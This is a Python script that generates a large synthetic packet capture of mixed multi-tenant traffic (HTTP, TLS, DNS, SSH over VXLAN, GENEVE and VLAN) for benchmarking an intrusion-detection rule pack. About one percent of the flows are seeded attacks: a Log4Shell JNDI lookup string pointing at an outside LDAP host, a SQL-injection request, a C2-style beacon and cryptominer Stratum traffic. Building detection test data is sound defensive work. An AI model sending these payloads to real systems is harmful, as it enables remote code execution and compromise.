#!/usr/bin/python3
"""A large mixed capture for `make bench`: many interleaved flows of realistic sizes, several tenants, a
sprinkling of attacks the bundled pack detects.

    gen_bench.py --out FILE.pcap [--size-mb 520] [--seed N] [--concurrency 256]

Building 500 MB packet by packet with scapy would take the better part of an hour, so scapy builds a few
hundred template sessions once (HTTP pages and downloads, TLS, DNS, SSH, attacks; each in every tenant's
encapsulation: VXLAN, GENEVE, VLAN, QinQ, plain) and the capture is then written with struct/bytes: each
new flow is a copy of a template whose client address (low 16 bits) and client port are rewritten, with
the IPv4 header and TCP/UDP checksums updated incrementally (RFC 1624), so every packet stays valid. Up to
--concurrency flows are open at once and their packets interleave in a seeded random order; timestamps
advance as on a 1 Gbit/s link. The output is deterministic for a given seed and size.

Writes FILE atomically (FILE.tmp then rename) and FILE.json: packets, bytes, flows per template kind and
the alerts the bundled pack should raise (one per attack flow for the per-request rules).
Run with Debian's /usr/bin/python3 (it has scapy).
"""

import argparse
import json
import os
import random
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "data"))

import gen_traffic as gt  # noqa: E402  (the same packet builders as the test traffic)

T0 = 1767312000.0  # 2026-01-02T00:00:00Z
LINK_BPS = 1e9

# Inner IP header offset per encapsulation (Ethernet 14, 802.1Q +4, QinQ +8, overlay: outer
# Ethernet + IPv4 + UDP + 8-byte VXLAN/GENEVE header + inner Ethernet).
IP_OFFSET = {"plain": 14, "vlan": 18, "qinq": 22, "vxlan": 64, "geneve": 64}

# Where each tenant's servers and clients live (inner addresses; the low 16 bits of the client are
# rewritten per flow, so every prefix leaves them free).
SITES = {
    "acme": ("10.0.10.80", "10.0.20.1"),
    "globex": ("10.0.10.80", "10.0.20.1"),  # same private space as acme, on purpose
    "initech": ("10.100.10.80", "10.100.20.1"),
    "umbrella": ("10.200.10.80", "10.200.20.1"),
    "hooli": ("10.50.10.80", "10.50.20.1"),
    "unassigned": ("192.168.10.80", "192.168.20.1"),
}
HOOLI6 = ("fd00:50::80", "fd00:50::1:1")

# Relative frequency of each template kind among new flows (attacks ~1%).
MIX = [("http_page", 30), ("http_download", 6), ("tls", 22), ("dns", 30), ("ssh", 3), ("http6", 3),
       ("sqli", 0.3), ("log4shell", 0.3), ("c2", 0.2), ("stratum", 0.2)]
# Alerts each attack flow raises with rules/yunshao-cloud.rules (per-request rules, no thresholds).
ATTACK_ALERTS = {"sqli": {9100101: 1}, "log4shell": {9100201: 1}, "c2": {9100701: 1},
                 "stratum": {9100401: 1, 9100402: 1}}


class Template:
    """A recorded session: frames plus, per frame, what to patch for a new client address/port."""

    def __init__(self, kind, tenant, frames, client_ip):
        self.kind = kind
        self.tenant = tenant
        # (bytes, patch): patch = (offset of the client address' low 16 bits, offset of the client port,
        # IPv4 header checksum offset or None, TCP/UDP checksum offset or None, is UDP)
        self.pkts = []
        for data in frames:
            self.pkts.append((data, _patch_points(data, tenant, client_ip)))
        self.bytes = sum(len(d) for d in frames)


def _patch_points(data, tenant, client_ip):
    ip_off = IP_OFFSET[gt.NETS[tenant].kind]
    ver = data[ip_off] >> 4
    if ver == 4:
        ihl = (data[ip_off] & 15) * 4
        proto = data[ip_off + 9]
        src = data[ip_off + 12:ip_off + 16]
        from_client = src == bytes(int(x) for x in client_ip.split("."))
        addr_off = ip_off + (14 if from_client else 18)  # low 16 bits of the client's address
        l4 = ip_off + ihl
        ip_csum = ip_off + 10
    else:
        import ipaddress
        proto = data[ip_off + 6]
        src = data[ip_off + 8:ip_off + 24]
        from_client = src == ipaddress.ip_address(client_ip).packed
        addr_off = ip_off + (8 + 14 if from_client else 24 + 14)
        l4 = ip_off + 40
        ip_csum = None
    port_off = l4 if from_client else l4 + 2
    if proto == 6:
        l4_csum = l4 + 16
    elif proto == 17:
        l4_csum = l4 + 6
    else:
        l4_csum = None
    return (addr_off, port_off, ip_csum, l4_csum, proto == 17)


def _csum_adjust(csum, old, new):
    """RFC 1624 eqn. 3: HC' = ~(~HC + ~m + m') over the changed 16-bit words."""
    s = (~csum) & 0xFFFF
    for o in old:
        s += (~o) & 0xFFFF
    for n in new:
        s += n
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def _record(kind, tenant, build):
    """Run BUILD(cap, ports) in a fresh capture and return its frames."""
    cap = gt.Capture(0.0, random.Random("%s/%s" % (kind, tenant)))
    ports = gt.PortAlloc()
    client = build(cap, ports)
    return Template(kind, tenant, [d for _, d in cap.frames], client)


def _text(rng, n):
    words = ["cloud", "tenant", "service", "latency", "region", "backup", "invoice", "report", "metrics",
             "customer", "storage", "network", "policy", "deploy", "monitor", "release", "update"]
    out = []
    size = 0
    while size < n:
        w = rng.choice(words)
        out.append(w)
        size += len(w) + 1
    return (" ".join(out))[:n].encode()


def make_templates(seed, scale=1.0):
    """Template sessions; SCALE shrinks the bulk transfers (tests use 0.1 to build them quickly)."""
    rng = random.Random(seed)
    templates = []
    for tenant in SITES:
        net = gt.NETS[tenant]
        srv, cli = SITES[tenant]

        for i, size in enumerate([1500, 4000, 9000, 16000, 30000]):
            def page(cap, ports, size=size, i=i):
                body = b"<html><head><title>portal</title></head><body>" + _text(cap.rng, size) + b"</body></html>"
                gt.http_exchange(cap, net, ports, cli, srv,
                                 gt.http_get("/app/page%d?id=%d" % (i, cap.rng.randrange(1000)), "portal.example"),
                                 gt.http_response(body))
                return cli
            templates.append(_record("http_page", tenant, page))

        for size in [int(150_000 * scale), int(500_000 * scale)]:
            def download(cap, ports, size=size):
                body = cap.rng.randbytes(size)
                gt.http_exchange(cap, net, ports, cli, srv, gt.http_get("/files/blob.bin", "files.example"),
                                 gt.http_response(body, ctype="application/octet-stream"))
                return cli
            templates.append(_record("http_download", tenant, download))

        for down in [int(20_000 * scale), int(100_000 * scale), int(250_000 * scale)]:
            def tls(cap, ports, down=down):
                s = gt.TcpSession(cap, net, cli, srv, ports(), 443)
                s.open()
                s.send(gt.tls_client_hello("api.%s.example" % tenant, cap.rng))
                s.send(gt.tls_server_flight(cap.rng), from_client=False)
                s.send(gt.tls_app_data(cap.rng, 1200))
                left = down
                while left > 0:
                    n = min(left, 16000)
                    s.send(gt.tls_app_data(cap.rng, n), from_client=False)
                    left -= n
                s.close()
                return cli
            templates.append(_record("tls", tenant, tls))

        for q in ["www.example.com", "api.service.example.net", "cdn-eu-1.static.example.org", "mail.example.com"]:
            def dns(cap, ports, q=q):
                gt.dns_query(cap, net, cli, srv, ports(), q, "A", cap.rng.randrange(65536), answer="203.0.113.10")
                return cli
            templates.append(_record("dns", tenant, dns))

        def ssh(cap, ports):
            s = gt.TcpSession(cap, net, cli, srv, ports(), 22)
            s.open()
            s.send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", from_client=False)
            s.send(b"SSH-2.0-OpenSSH_9.6\r\n")
            for _ in range(20):
                s.send(gt.ssh_blob(cap.rng, cap.rng.randrange(48, 1400)))
                s.send(gt.ssh_blob(cap.rng, cap.rng.randrange(48, 1400)), from_client=False)
            s.close()
            return cli
        templates.append(_record("ssh", tenant, ssh))

        def sqli(cap, ports):
            gt.http_exchange(cap, net, ports, gt.ATTACKER, srv, gt.http_get(gt.SQLI_UNION, "shop.example"))
            return gt.ATTACKER
        templates.append(_record("sqli", tenant, sqli))

        def log4shell(cap, ports):
            gt.http_exchange(cap, net, ports, gt.ATTACKER, srv,
                             gt.http_get("/", "portal.example", ua="${jndi:ldap://%s:1389/x}" % gt.JNDI_HOST))
            return gt.ATTACKER
        templates.append(_record("log4shell", tenant, log4shell))

        def c2(cap, ports):
            import base64
            meta = base64.b64encode(bytes(cap.rng.randrange(256) for _ in range(128))).decode()
            req = ("GET /dpixel HTTP/1.1\r\nAccept: */*\r\nCookie: %s\r\nUser-Agent: %s\r\nHost: %s\r\n"
                   "Connection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n" % (meta, gt.CS_UA, gt.C2_SERVER)).encode()
            gt.TcpSession(cap, net, cli, gt.C2_SERVER, ports(), 80).exchange(req, gt.http_response(b""))
            return cli
        templates.append(_record("c2", tenant, c2))

        def stratum(cap, ports):
            s = gt.TcpSession(cap, net, cli, gt.POOL_STRATUM, ports(), 3333)
            s.open()
            s.send(b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer-opt/3.23.3"]}\n')
            s.send(b'{"id":1,"result":[[["mining.notify","ae68"]],"08000002",4],"error":null}\n', from_client=False)
            s.send(b'{"params": ["wallet.rig1", "x"], "id": 2, "method": "mining.authorize"}\n')
            s.send(b'{"id":2,"result":true,"error":null}\n', from_client=False)
            s.close()
            return cli
        templates.append(_record("stratum", tenant, stratum))

    net = gt.NETS["hooli"]
    for size in [3000, 12000]:
        def http6(cap, ports, size=size):
            gt.http_exchange(cap, net, ports, HOOLI6[1], HOOLI6[0], gt.http_get("/v6/index.html", "v6.example"),
                             gt.http_response(_text(cap.rng, size)))
            return HOOLI6[1]
        t = _record("http6", "hooli", http6)
        templates.append(t)
    rng.shuffle(templates)
    return templates


def write_bench(path, size_mb, seed, concurrency, scale=1.0):
    t_start = time.time()
    templates = make_templates(seed, scale)
    by_kind = {}
    for t in templates:
        by_kind.setdefault(t.kind, []).append(t)
    kinds = [k for k, _ in MIX]
    weights = [w for _, w in MIX]
    rng = random.Random(seed)
    target = size_mb * 1024 * 1024
    flows_by_kind = {k: 0 for k in kinds}
    alerts = {}

    tmp = path + ".tmp"
    packets = 0
    written = 0
    ts = T0
    active = []  # [template, index, client_word, client_port]
    next_port = 0
    with open(tmp, "wb", buffering=1 << 20) as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, gt.LINKTYPE_ETHERNET))
        while written < target or active:
            while written < target and len(active) < concurrency:
                kind = rng.choices(kinds, weights)[0]
                t = rng.choice(by_kind[kind])
                flows_by_kind[kind] += 1
                for sid, n in ATTACK_ALERTS.get(kind, {}).items():
                    alerts[sid] = alerts.get(sid, 0) + n
                next_port += 1
                active.append([t, 0, rng.randrange(1, 0xFFFF), 1024 + next_port % 64000])
            if not active:
                break
            i = rng.randrange(len(active))
            flow = active[i]
            t, idx, cword, cport = flow
            data, (addr_off, port_off, ip_csum, l4_csum, udp) = t.pkts[idx]
            b = bytearray(data)
            old_a = (b[addr_off] << 8) | b[addr_off + 1]
            old_p = (b[port_off] << 8) | b[port_off + 1]
            b[addr_off:addr_off + 2] = cword.to_bytes(2, "big")
            b[port_off:port_off + 2] = cport.to_bytes(2, "big")
            if ip_csum is not None:
                c = (b[ip_csum] << 8) | b[ip_csum + 1]
                b[ip_csum:ip_csum + 2] = _csum_adjust(c, [old_a], [cword]).to_bytes(2, "big")
            if l4_csum is not None:
                c = (b[l4_csum] << 8) | b[l4_csum + 1]
                if not (udp and c == 0):  # a UDP checksum of 0 means "none": leave it
                    n = _csum_adjust(c, [old_a, old_p], [cword, cport])
                    if n == 0 and udp:
                        n = 0xFFFF
                    b[l4_csum:l4_csum + 2] = n.to_bytes(2, "big")
            ts += len(b) * 8 / LINK_BPS + 2e-6
            sec = int(ts)
            f.write(struct.pack("<IIII", sec, int((ts - sec) * 1e6), len(b), len(b)))
            f.write(b)
            packets += 1
            written += 16 + len(b)
            flow[1] += 1
            if flow[1] == len(t.pkts):
                active[i] = active[-1]
                active.pop()
    os.replace(tmp, path)
    info = {"file": os.path.basename(path), "seed": seed, "template_scale": scale, "packets": packets, "bytes": os.path.getsize(path),
            "flows": sum(flows_by_kind.values()), "flows_by_kind": flows_by_kind, "templates": len(templates),
            "expected_alerts_by_sid": {str(k): v for k, v in sorted(alerts.items())},
            "seconds_to_generate": round(time.time() - t_start, 1)}
    with open(path + ".json", "w") as f:
        json.dump(info, f, indent=1, sort_keys=True)
        f.write("\n")
    return info


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True, help="pcap file to write (cache path)")
    ap.add_argument("--size-mb", type=int, default=520, help="approximate size in MiB (default %(default)s)")
    ap.add_argument("--seed", type=int, default=20261126)
    ap.add_argument("--concurrency", type=int, default=256, help="flows open at once (default %(default)s)")
    ap.add_argument("--template-scale", type=float, default=1.0,
                    help="shrink bulk transfers of the templates (tests: 0.1); default %(default)s")
    a = ap.parse_args(argv)
    d = os.path.dirname(os.path.abspath(a.out))
    os.makedirs(d, exist_ok=True)
    info = write_bench(a.out, a.size_mb, a.seed, a.concurrency, a.template_scale)
    print("gen_bench: %s: %d packets, %.0f MB, %d flows (%d templates) in %.1f s" % (
        a.out, info["packets"], info["bytes"] / 1e6, info["flows"], info["templates"], info["seconds_to_generate"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
